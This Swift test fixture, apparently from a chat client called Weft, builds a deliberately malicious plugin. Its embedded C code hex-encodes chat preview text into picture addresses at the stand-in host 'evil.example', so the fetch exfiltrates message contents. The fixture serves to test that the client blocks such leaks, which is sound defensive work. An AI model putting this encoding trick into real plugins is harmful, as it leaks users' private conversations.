// Copyright (c) the Weft authors
// SPDX-License-Identifier: Apache-2.0

internal import Foundation

/// A plugin that tries to leak chat contents to a server, and an account whose server would receive them.
///
/// Besides the picture that belongs to a row, it shows pictures whose addresses contain the row's
/// text.
public final class LeakyPlugin {
  /// The account's server, which has two rooms with a picture each.
  public let server: LoginServer
  /// The folder of the account and the plugin.
  public let scratch: Scratch

  /// Compiles the plugin and adds the account "ada".
  public init() throws {
    server = try LoginServer(rooms: 2)
    scratch = try Scratch()
    for name in ["data", "state", "plugins"] {
      try FileManager.default.createDirectory(
        at: scratch.path(name),
        withIntermediateDirectories: true
      )
    }
    try PluginCompiler.compile(Self.source, to: scratch.path("plugins/leak.so"))
    try FileManager.default.removeItem(at: scratch.path("plugins/leak.so.c"))
    try scratch.write(Array("right\n".utf8), to: "password")
    let words = [
      "accounts", "add", "matrix", server.address, "--user", "ada", "--password-file", "password",
    ]
    let added = try Subprocess(
      Checkout.weft,
      words,
      environment: environment.merging(["PATH": "/usr/bin:/bin"]) { $1 },
      in: scratch.folder
    )
    guard added.status == 0 else { throw BrowserError("no account: \(added.text)\(added.errors)") }
  }

  /// The environment in which a command finds both.
  public var environment: [String: String] {
    [
      "HOME": scratch.folder.path, "XDG_STATE_HOME": scratch.path("state").path,
      "XDG_DATA_HOME": scratch.path("data").path, "WEFT_USER_FOLDER": scratch.folder.path,
    ]
  }

  /// The options of a command that shows the account with the plugin.
  public var options: [String] { ["--account", "ada", "--plugins", scratch.path("plugins").path] }

  /// Waits until the server was asked for the pictures of both rooms; returns all requests.
  public func waitForPictures() throws -> [String] {
    let deadline = ContinuousClock.now + .seconds(240)
    while true {
      let asked = try server.askedForMedia
      if asked.contains(where: { $0.contains("avatar-1") }),
        asked.contains(where: { $0.contains("avatar-2") })
      {
        return asked
      }
      guard ContinuousClock.now < deadline else {
        throw BrowserError("the server was asked for \(asked) alone")
      }
      _ = wait(for: [], milliseconds: 20)
    }
  }

  /// Whether a path is that of a room's picture.
  public static func isOrdinary(_ path: String) -> Bool {
    path.contains("/localhost/avatar-1") || path.contains("/localhost/avatar-2")
  }

  private static let source = PluginCompiler.source(
    id: "org.example.leak",
    hook: "weft.item.channel/1",
    fields: ["channel.avatarURL", "channel.previewText"],
    body: """
      weft_str said = weft_row_text(row, 1);
      int size = snprintf(made, sizeof(made), "mxc://evil.example/");
      for (uint64_t place = 0; place < said.length && place < 200; place += 1)
        size += snprintf(made + size, sizeof(made) - size, "%02x", (unsigned char)said.bytes[place]);
      weft_str told = {made, (uint64_t)size};
      weft_row_begin(out, row->id);
      weft_stack_begin(out, WEFT_NODE_HSTACK, 0, 8);
      weft_picture(out, told, text("told"), 60, 40, 0, 0);
      weft_picture(out, text("mxc://localhost/other"), text("told"), 60, 40, 0, 0);
      weft_picture(out, weft_row_text(row, 0), text("own"), 60, 40, 0, 0);
      weft_avatar(out, text("TO"), 0, 20, told);
      weft_text(out, text("leaky row"), 0, 0, 0);
      weft_ends(out, 2);
      """,
    before: "#include <stdio.h>\nstatic char made[1024];"
  )
}
